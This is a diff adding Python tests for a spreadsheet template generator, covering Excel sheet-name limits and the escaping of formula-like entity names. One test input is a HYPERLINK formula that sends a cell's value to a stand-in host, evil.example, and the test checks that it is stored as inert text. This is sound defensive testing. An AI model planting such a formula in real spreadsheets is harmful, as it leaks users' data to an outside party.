@@ -712,3 +712,58 @@ def test_formula_cells_without_a_saved_value_are_errors_naming_the_cell() -> Non
     parsed = parse_statement_upload(_rezip(data, {SHEET1: xml}), "f.xlsx", ENTITIES)
     assert parsed.errors == []
     assert parsed.rows["amount"].to_list() == [D("1.00")]
+
+
+# --- what we write: sheet names and text cells --------------------------------------------------
+
+
+def _utf16(text: str) -> int:
+    return len(text.encode("utf-16-le")) // 2
+
+
+def test_template_sheet_names_fit_excel_in_utf16_and_stay_unique() -> None:
+    emoji = "😀" * 16  # 16 characters, 32 UTF-16 units: xlsxwriter refused the whole template
+    rare = "𠀀" * 20  # CJK Extension B, also outside the BMP
+    family = "家" * 29 + "👨‍👩‍👧"  # a ZWJ sequence across the cut
+    entities = [
+        (CODE_A, emoji),
+        (CODE_B, emoji + "!"),  # the same after the cut: the credit code instead
+        (CODE_C, rare),
+        (CODE_D, family),
+        (code_for(4), "'[]:*?/\\'"),  # nothing but forbidden characters
+        (code_for(5), "a\x00b\tc"),  # control characters are not allowed in the XML
+        (code_for(6), "x" * 30 + "'y"),  # an apostrophe where the cut falls
+        (code_for(7), "HISTORY"),  # reserved by Excel
+        (code_for(8), code_for(9)),  # named like the next entity's code...
+        (code_for(9), "history"),  # ...which this one needs
+    ]
+    book = openpyxl.load_workbook(io.BytesIO(statement_template("2025", entities)))
+    names = book.sheetnames[1:]
+    assert names == [
+        "😀" * 15,
+        CODE_B,
+        "𠀀" * 15,
+        "家" * 29,
+        "_______",
+        "a_b_c",
+        "x" * 30,
+        code_for(7),
+        code_for(9),
+        code_for(9) + "~2",
+    ]
+    assert all(_utf16(n) <= 31 for n in names)
+    assert len({n.casefold() for n in book.sheetnames}) == len(book.sheetnames)
+    # Each sheet still belongs to its entity.
+    assert [book[n]["B1"].value for n in names] == [code for code, _ in entities]
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(1)"]
+
+
+def test_template_writes_entity_names_as_text() -> None:
+    entities = [(code_for(n), name) for n, name in enumerate(FORMULA_NAMES)]
+    book = openpyxl.load_workbook(io.BytesIO(statement_template("2025", entities)))
+    for (_, name), sheet in zip(entities, book.worksheets[1:], strict=True):
+        assert (sheet["B3"].value, sheet["B3"].data_type) == (name, "s")
+    text = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value]
+    assert text and all(c.data_type in ("s", "n") for c in text)
